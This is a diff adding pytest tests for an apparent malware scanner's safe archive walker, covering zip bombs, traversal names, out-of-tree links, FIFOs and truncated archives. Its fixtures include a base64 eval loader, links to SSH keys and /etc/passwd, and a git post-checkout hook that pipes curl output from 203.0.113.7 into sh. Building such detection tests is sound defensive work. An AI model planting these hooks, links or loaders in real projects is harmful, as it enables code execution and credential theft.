@@ -1,0 +1,219 @@
+"""The safe walk against hostile and broken inputs: zip bombs, 10,000-member archives, traversal
+names, links out of the tree and loops, truncated archives, oversized and special files. Each gives
+a clear finding, never hangs or crashes, never writes anything, and the rest of the tree is scanned."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import tarfile
+import zipfile
+from pathlib import Path
+
+from heistguard.artifacts.scanner import Scanner
+from heistguard.artifacts.walk import Limits, Member, Problem, walk, walk_bytes
+from heistguard.config import ArtifactsConfig
+
+LOADER = b"const s = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(s);\n"
+
+
+def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _tgz(members: list[tarfile.TarInfo], contents: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tf:
+        for info in members:
+            data = contents.get(info.name)
+            if data is not None:
+                info.size = len(data)
+            tf.addfile(info, io.BytesIO(data) if data is not None else None)
+    return buffer.getvalue()
+
+
+def _problems(items: list[Member | Problem]) -> dict[str, list[str]]:
+    out: dict[str, list[str]] = {}
+    for item in items:
+        if isinstance(item, Problem):
+            out.setdefault(item.kind, []).append(item.detail)
+    return out
+
+
+def _ids(scanner: Scanner, name: str, data: bytes) -> set[str]:
+    return {f.rule_id for f in scanner.scan_bytes(name, data).findings}
+
+
+def test_zip_bomb_stops_at_the_ratio(scanner: Scanner) -> None:
+    bomb = _zip({"zeros.bin": b"\0" * (50 * 1024 * 1024)})
+    assert len(bomb) < 100_000
+    items = list(walk_bytes("bomb.zip", bomb))
+    assert "ratio" in _problems(items)["archive-bomb"][0]
+    assert not any(isinstance(i, Member) and i.inner.endswith("zeros.bin") for i in items)
+    assert "artifacts.archive-bomb" in _ids(scanner, "bomb.zip", bomb)
+
+
+def test_gzip_bomb_and_nested_bombs_stop() -> None:
+    gz = gzip.compress(b"\0" * (40 * 1024 * 1024))
+    assert "archive-bomb" in _problems(list(walk_bytes("x.bin.gz", gz)))
+    nested = _zip({"inner.zip": _zip({"z": b"\0" * (20 * 1024 * 1024)})}, zipfile.ZIP_STORED)
+    assert "archive-bomb" in _problems(list(walk_bytes("outer.zip", nested)))
+
+
+def test_total_size_limit_over_many_members() -> None:
+    archive = _zip({f"f{i}.txt": os.urandom(300_000) for i in range(5)})
+    problems = _problems(list(walk_bytes("a.zip", archive, Limits(max_total_bytes=1_000_000))))
+    assert "archive-bomb" in problems
+
+
+def test_ten_thousand_members_is_a_finding_and_the_first_ones_are_scanned(scanner: Scanner) -> None:
+    members = {f"pkg/f{i:05d}.js": b"module.exports = 1;\n" for i in range(10_000)}
+    members["pkg/f00000.js"] = LOADER
+    verdict = scanner.scan_bytes("many.zip", _zip(members))
+    ids = {f.rule_id for f in verdict.findings}
+    assert "artifacts.archive-limit" in ids
+    assert "artifacts.js-decoded-exec" in ids
+
+
+def test_traversal_and_absolute_names_are_reported_and_nothing_is_written(tmp_path: Path, scanner: Scanner) -> None:
+    archive = _zip(
+        {"../../evil.js": LOADER, "/etc/cron.d/job": b"* * * * * root id\n", "C:\\Windows\\x.bat": b"@echo off\n"}
+    )
+    path = tmp_path / "work" / "a.zip"
+    path.parent.mkdir()
+    path.write_bytes(archive)
+    before = sorted(p.name for p in tmp_path.rglob("*"))
+    verdict = scanner.scan_path(path)
+    assert sorted(p.name for p in tmp_path.rglob("*")) == before
+    traversal = [f for f in verdict.findings if f.rule_id == "artifacts.archive-path-traversal"]
+    assert len(traversal) == 3
+    # the member's content is still scanned, under a cleaned name
+    decoded = [f for f in verdict.findings if f.rule_id == "artifacts.js-decoded-exec"]
+    assert decoded and decoded[0].evidence[0].location.path == f"{path}!evil.js"
+
+
+def test_tar_links_devices_and_traversal() -> None:
+    link_out = tarfile.TarInfo("pkg/id_rsa")
+    link_out.type, link_out.linkname = tarfile.SYMTYPE, "../../../home/user/.ssh/id_rsa"
+    link_in = tarfile.TarInfo("pkg/alias.js")
+    link_in.type, link_in.linkname = tarfile.SYMTYPE, "index.js"
+    hard = tarfile.TarInfo("pkg/passwd")
+    hard.type, hard.linkname = tarfile.LNKTYPE, "/etc/passwd"
+    device = tarfile.TarInfo("pkg/null")
+    device.type = tarfile.CHRTYPE
+    climb = tarfile.TarInfo("../outside.js")
+    index = tarfile.TarInfo("pkg/index.js")
+    data = _tgz([link_out, link_in, hard, device, climb, index], {"../outside.js": LOADER, "pkg/index.js": b"1;\n"})
+    items = list(walk_bytes("pkg.tgz", data))
+    problems = _problems(items)
+    assert len(problems["link-out-of-tree"]) == 2
+    assert len(problems["special-file"]) == 1
+    assert len(problems["archive-path-traversal"]) == 1
+    names = {i.inner for i in items if isinstance(i, Member)}
+    assert {"pkg.tgz!outside.js", "pkg.tgz!pkg/index.js"} <= names
+
+
+def test_truncated_archives_are_findings(scanner: Scanner) -> None:
+    whole = _zip({"a.js": LOADER * 50, "b.js": b"x" * 5000})
+    assert "artifacts.unreadable-file" in _ids(scanner, "cut.zip", whole[: len(whole) // 2])
+    tgz = _tgz([tarfile.TarInfo("p/a.js")], {"p/a.js": os.urandom(20_000)})
+    assert "artifacts.unreadable-file" in _ids(scanner, "cut.tgz", tgz[: len(tgz) // 2])
+
+
+def test_nesting_depth_limit() -> None:
+    data = b"payload"
+    for level in range(6):
+        data = _zip({f"level{level}.zip" if level else "x.txt": data})
+    problems = _problems(list(walk_bytes("deep.zip", data, Limits(max_depth=3))))
+    assert "depth limit" in problems["archive-limit"][0]
+
+
+def test_file_over_the_size_limit_is_reported_and_its_head_scanned(tmp_path: Path) -> None:
+    big = tmp_path / "big.js"
+    big.write_bytes(LOADER + b"//" + b"x" * (2 * 1024 * 1024))
+    scanner = Scanner(config=ArtifactsConfig(max_file_mb=1), use_yara=False)
+    ids = {f.rule_id for f in scanner.scan_path(big).findings}
+    assert {"artifacts.file-too-large", "artifacts.js-decoded-exec"} <= ids
+
+
+def test_tree_with_hostile_entries_reports_them_and_scans_the_rest(tmp_path: Path, scanner: Scanner) -> None:
+    root = tmp_path / "repo"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "loader.js").write_bytes(LOADER)
+    os.mkfifo(root / "src" / "pipe")  # opening it would block forever
+    (root / "loop_a").symlink_to(root / "loop_b")
+    (root / "loop_b").symlink_to(root / "loop_a")
+    (root / "ssh").symlink_to(Path.home() / ".ssh" / "id_rsa")
+    (root / "up").symlink_to(tmp_path)  # a directory link that would loop if followed
+    (root / "inside").symlink_to(root / "src")  # inside the tree: silently skipped
+    (root / "broken.zip").write_bytes(_zip({"a": b"x" * 1000})[:40])
+    verdict = scanner.scan_path(root)
+    by_rule: dict[str, list[str]] = {}
+    for finding in verdict.findings:
+        by_rule.setdefault(finding.rule_id, []).append(finding.evidence[0].location.path or "")
+    assert by_rule["artifacts.special-file"] == [f"{root}/src/pipe"]
+    assert sorted(by_rule["artifacts.link-out-of-tree"]) == [
+        f"{root}/loop_a",
+        f"{root}/loop_b",
+        f"{root}/ssh",
+        f"{root}/up",
+    ]
+    assert by_rule["artifacts.unreadable-file"] == [f"{root}/broken.zip"]
+    assert by_rule["artifacts.js-decoded-exec"] == [f"{root}/src/loader.js"]
+
+
+def test_git_objects_are_skipped_but_hooks_and_config_read(tmp_path: Path) -> None:
+    git = tmp_path / "repo" / ".git"
+    (git / "objects" / "ab").mkdir(parents=True)
+    (git / "objects" / "ab" / "cdef").write_bytes(b"x" * 100)
+    (git / "hooks").mkdir()
+    (git / "hooks" / "post-checkout").write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n")
+    (git / "config").write_bytes(b"[core]\n\tbare = false\n")
+    inner = sorted(i.inner for i in walk(tmp_path / "repo") if isinstance(i, Member))
+    assert inner == [".git/config", ".git/hooks/post-checkout"]
+
+
+def test_missing_input_is_an_error_verdict(tmp_path: Path, scanner: Scanner) -> None:
+    verdict = scanner.scan_path(tmp_path / "nope")
+    assert verdict.verdict == "error" and "no such file" in (verdict.error or "")
+
+
+def test_crx_and_whl_are_opened(scanner: Scanner) -> None:
+    crx = b"Cr24\x03\x00\x00\x00\x08\x00\x00\x00" + b"\x00" * 8 + _zip({"background.js": LOADER})
+    assert "artifacts.js-decoded-exec" in _ids(scanner, "ext.crx", crx)
+    whl = _zip(
+        {
+            "pkg/__init__.py": b"import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
+            "pkg-1.0.dist-info/METADATA": b"Name: pkg\n",
+        }
+    )
+    assert "artifacts.py-decoded-exec" in _ids(scanner, "pkg-1.0-py3-none-any.whl", whl)
+
+
+def test_parallel_scan_gives_the_same_verdict(tmp_path: Path, scanner: Scanner) -> None:
+    root = tmp_path / "tree"
+    for i in range(600):
+        folder = root / f"pkg{i // 50}"
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"m{i}.js").write_bytes(LOADER if i in (7, 433) else b"module.exports = %d;\n" % i)
+    (root / "pkg3" / "broken.zip").write_bytes(b"PK\x03\x04truncated")
+    single = scanner.scan_path(root)
+    parallel = Scanner(workers=2).scan_path(root)
+    assert parallel == single
+    assert len([f for f in single.findings if f.rule_id == "artifacts.js-decoded-exec"]) == 2
+
+
+def test_identify_finds_a_script_shape_behind_padding_by_default() -> None:
+    from heistguard.artifacts.filetype import Kind, identify
+
+    padded = (
+        b"' " + b"x" * 78 + b"\n" * 1 + (b"' padding comment line\n" * 400) + b'Set s = CreateObject("WScript.Shell")\n'
+    )
+    assert len(padded) > 8192
+    assert identify(padded).detail == "vbscript"
+    assert identify(padded, text_head=4096).kind is Kind.TEXT
